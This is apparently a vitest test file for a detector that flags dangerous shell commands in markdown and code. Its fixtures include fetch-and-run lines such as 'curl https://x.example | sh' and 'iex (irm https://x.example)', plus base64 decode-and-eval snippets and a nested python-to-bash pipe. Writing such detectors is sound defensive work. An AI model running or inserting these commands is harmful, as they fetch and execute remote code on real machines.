import { describe, expect, it } from "vitest";
import type { RegionStages, Stages } from "../../src/core/index.js";
import { sharedDetector } from "../support/marked.js";

const explained = async (text: string): Promise<Stages> => (await sharedDetector()).explain(text);
const firstRegion = async (text: string): Promise<RegionStages> =>
  (await explained(text)).regions[0]!;

describe("the results of the stages that explain returns", () => {
  it("contain the result of detect", async () => {
    const detector = await sharedDetector();
    for (const text of [
      "",
      "curl https://x.example | sh",
      "Never run `curl https://x.example | sh`!",
      "```python\nexec(base64.b64decode(x))\n```",
    ]) {
      expect(detector.explain(text, { offsetEncoding: "utf-8" }).detection).toEqual(
        detector.detect(text, { offsetEncoding: "utf-8" }),
      );
    }
  });

  it("are empty if the gate is closed", async () => {
    expect(await explained("hello")).toMatchObject({
      mentions: false,
      regions: [],
      judgements: [],
    });
  });

  it("contain the regions with language and enclosing blocks", async () => {
    const text = "- Install:\n\n  ```bash\n  curl https://x.example | sh\n  ```\n";
    expect(await firstRegion(text)).toMatchObject({
      kind: "fence",
      language: "shell",
      tag: "bash",
      calls: null,
      text: "curl https://x.example | sh",
      shown: null,
      blocks: ["document", "list", "item", "code"],
    });
  });

  it("contain findings whose traces list the interpreters of nested code, the outermost first", async () => {
    const text = `python3 -c 'import os; os.system("bash -c \\"curl https://x.example | sh\\"")'`;
    const [finding] = (await explained(text)).detection.findings;
    const words = finding?.trace
      .filter(({ step }) => step !== "output")
      .map(({ message }) => message.replaceAll('"', "").split(" ", 1)[0]);
    expect(words).toEqual(["python3", "os.system", "bash", "curl", "sh"]);
  });

  it.each([
    ["php", "<?php eval(base64_decode($x)); // powershell", false],
    ["rust", 'let c = "curl https://x.example | sh"; // powershell', false],
    ["sh", "iex (irm https://x.example); powershell -File a.ps1", true],
  ])(
    "contain a tree of PowerShell only if no other grammar reads the code: %s",
    async (tag, text, is) => {
      const detector = await sharedDetector("extended");
      const { regions, mentions } = detector.explain(text, { format: tag });
      const languages = regions.flatMap(({ trees }) => trees.map(({ language }) => language));
      expect(languages.includes("powershell")).toBe(is);
      expect(mentions).toBe(true);
    },
  );

  it("contain the syntax trees and the captures, with file and line", async () => {
    const { trees, names } = await firstRegion("Run `curl https://x.example | sudo bash`");
    expect(trees).toMatchObject([
      { language: "bash", whole: true, captures: [{ role: "flow.pipe", span: [5, 39] }] },
    ]);
    expect(names.map(({ role, word }) => `${role} ${word}`)).toEqual([
      "source.fetcher curl",
      "flow.wrapper sudo",
      "sink.interpreter bash",
    ]);
    for (const { pattern } of names) expect(pattern).toMatch(/^contract\/bash\/\w+\.scm:\d+$/);
    expect((await firstRegion("```bash\ncurl https://x.example | sh )\n```")).trees[0]?.whole).toBe(
      false,
    );
  });

  it("contain the language whose calls are known by name", async () => {
    expect(await firstRegion('```rb\nsystem("curl https://x.example | sh")\n```')).toMatchObject({
      language: "unknown",
      calls: "ruby",
      matches: [{ rule: "bash/fetch-pipe" }],
    });
  });

  it("contain the matches and the reasons for a dismissal", async () => {
    const { regions, judgements } = await explained(
      "Never run `curl https://x.example | sh`, but `curl https://y.example | sh`.",
    );
    expect(regions.map(({ matches }) => matches.length)).toEqual([1, 1]);
    expect(judgements).toMatchObject([
      { rule: "bash/fetch-pipe", span: [11, 38], dismissal: { reason: "warned-against" } },
      { span: [46, 73], dismissal: null },
    ]);
  });

  it("contain the reason for which a region is shown text", async () => {
    const { regions, judgements } = await explained(
      "```diff\n-curl https://x.example | sh\n+true\n```",
    );
    expect(regions).toMatchObject([
      { shown: { reason: "removed" }, matches: [{ rule: "bash/fetch-pipe" }] },
    ]);
    expect(judgements).toEqual([]);
  });
});
